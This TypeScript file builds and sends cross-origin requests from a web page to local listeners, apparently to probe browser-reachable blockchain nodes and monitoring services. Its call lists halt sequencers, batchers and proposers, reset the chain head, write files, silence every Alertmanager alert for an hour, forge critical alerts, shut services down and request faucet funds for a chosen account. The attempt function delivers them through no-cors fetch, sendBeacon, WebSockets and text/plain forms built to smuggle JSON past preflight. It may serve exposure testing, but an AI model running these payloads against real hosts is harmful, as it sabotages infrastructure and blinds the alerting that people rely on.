/** What a page tries at a listener. Plain data and one function that runs in the page. */

/** JSON-RPC methods that change a node or write a file, of all programs that a stack runs. @param file what is to be written */
export const changingCalls = (file: string): Call[] =>
  (
    [
      ["debug_writeMemProfile", [file]],
      ["debug_writeBlockProfile", [file]],
      ["debug_startCPUProfile", [file]],
      ["debug_startGoTrace", [file]],
      ["debug_setHead", ["0x0"]],
      ["debug_setGCPercent", [1]],
      ["miner_setMaxDASize", ["0x1", "0x1"]],
      ["miner_setGasLimit", ["0x1"]],
      ["admin_addPeer", ["enode://00@127.0.0.1:1"]],
      ["admin_stopHTTP", []],
      ["admin_stopWS", []],
      ["admin_exportChain", [file]],
      ["admin_stopSequencer", []],
      ["admin_setRecoverMode", [true]],
      ["admin_resetDerivationPipeline", []],
      ["admin_stopBatcher", []],
      ["admin_flushBatcher", []],
      ["admin_stopProposer", []],
      ["admin_setLogLevel", ["crit"]],
      ["opp2p_disconnectPeer", ["x"]],
      ["engine_forkchoiceUpdatedV3", [{}, null]],
      ["debug_bundler_clearState", []],
      ["debug_bundler_setBundlingMode", ["manual"]],
      ["pimlico_sendUserOperationNow", []],
    ] as const
  ).map(([method, params]) => ({
    path: "/",
    body: JSON.stringify({ jsonrpc: "2.0", id: method, method, params }),
  }));

/** Paths that change something where a program has them. @param account what a faucet is to give to */
export function changingPaths(account: string, validators: readonly string[]): Call[] {
  const silence = {
    matchers: [{ name: "alertname", value: ".*", isRegex: true, isEqual: true }],
    startsAt: new Date().toISOString(),
    endsAt: new Date(Date.now() + 3_600_000).toISOString(),
    createdBy: "a page",
    comment: "a page",
  };
  const labels = { alertname: "FORGED", severity: "critical", job: "page" };
  const told = { alerts: [{ status: "firing", fingerprint: "1", labels, annotations: {} }] };
  const empty = ["/-/quit", "/pause", "/shutdown", "/hand-over", "/api/v1/admin/tsdb/snapshot"];
  return [
    ...[...empty, ...validators.map((name) => `/withhold/${name}`)].map((path) => ({ path, body: "" })),
    { path: "/api/v2/silences", body: JSON.stringify(silence) },
    { path: "/api/v2/alerts", body: JSON.stringify([{ labels, annotations: { summary: "FORGED" } }]) },
    { path: "/alerts", body: JSON.stringify(told) },
    { path: "/api/faucet", body: JSON.stringify({ address: account, bnb: "1", tora: "0" }) },
    { path: "/infer", body: JSON.stringify({ task: "FORGED" }) },
  ];
}

export interface Call {
  path: string;
  body: string;
}

export interface Attempt {
  /** Host and port. */
  at: string;
  calls: Call[];
}

/** What a page was told: `way path body -> answer`. */
export type Told = { way: "fetch" | "socket"; call: string; status: number; answer: string };

/**
 * Runs in a page: sends every call in all the ways that a page has.
 * @returns what the page could read of the answers
 */
export async function attempt({ at, calls }: Attempt): Promise<Told[]> {
  const told: Told[] = [];
  const within = () => ({ signal: AbortSignal.timeout(30_000) });
  const name = ({ path, body }: Call) => `${path} ${/"method":"(\w+)"/.exec(body)?.[1] ?? ""}`;
  const asked = async (call: Call) => {
    const url = `http://${at}${call.path}`;
    const type = { "content-type": "application/json" };
    await fetch(url, { method: "POST", headers: type, body: call.body, ...within() })
      .then(async (got) =>
        told.push({
          way: "fetch",
          call: name(call),
          status: got.status,
          answer: (await got.text()).slice(0, 200),
        }),
      )
      .catch(() => undefined);
    // Without being asked first: a browser sends these at once.
    const blind = { method: "POST", mode: "no-cors" } as const;
    await fetch(url, { ...blind, ...within(), body: call.body }).catch(() => undefined);
    if (call.path === "/") return;
    await fetch(url, { ...blind, ...within(), body: new URLSearchParams({ x: call.body }) }).catch(
      () => undefined,
    );
    navigator.sendBeacon(url, new Blob([call.body], { type: "text/plain" }));
  };
  const form = (call: Call) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `${at}${Math.random()}` });
    const made = document.createElement("form");
    Object.assign(made, {
      method: "POST",
      enctype: "text/plain",
      target: frame.name,
      action: `http://${at}${call.path}`,
    });
    made.append(
      Object.assign(document.createElement("input"), {
        name: `${call.body.slice(0, -1)},"x":"`,
        value: `"}`,
      }),
    );
    document.body.append(frame, made);
    const gone = new Promise((done) => frame.addEventListener("load", done, { once: true }));
    made.submit();
    return Promise.race([gone, new Promise((done) => setTimeout(done, 3000))]).then(() => frame.remove());
  };
  const socket = (path: string) =>
    new Promise<void>((done) => {
      const opened = new WebSocket(`ws://${at}${path}`);
      let left = calls.length;
      const end = setTimeout(() => opened.close(), 20_000);
      opened.onopen = () => {
        for (const { body } of calls) opened.send(body);
      };
      opened.onmessage = ({ data }) => {
        const answer = String(data);
        const call = /"id":"(\w+)"/.exec(answer)?.[1] ?? "";
        told.push({ way: "socket", call, status: 101, answer: answer.slice(0, 200) });
        left -= 1;
        if (left === 0) opened.close();
      };
      opened.onclose = () => {
        clearTimeout(end);
        done();
      };
    });
  await Promise.all([...calls.map(asked), socket("/"), socket("/ws"), ...calls.slice(0, 2).map(form)]);
  return told;
}
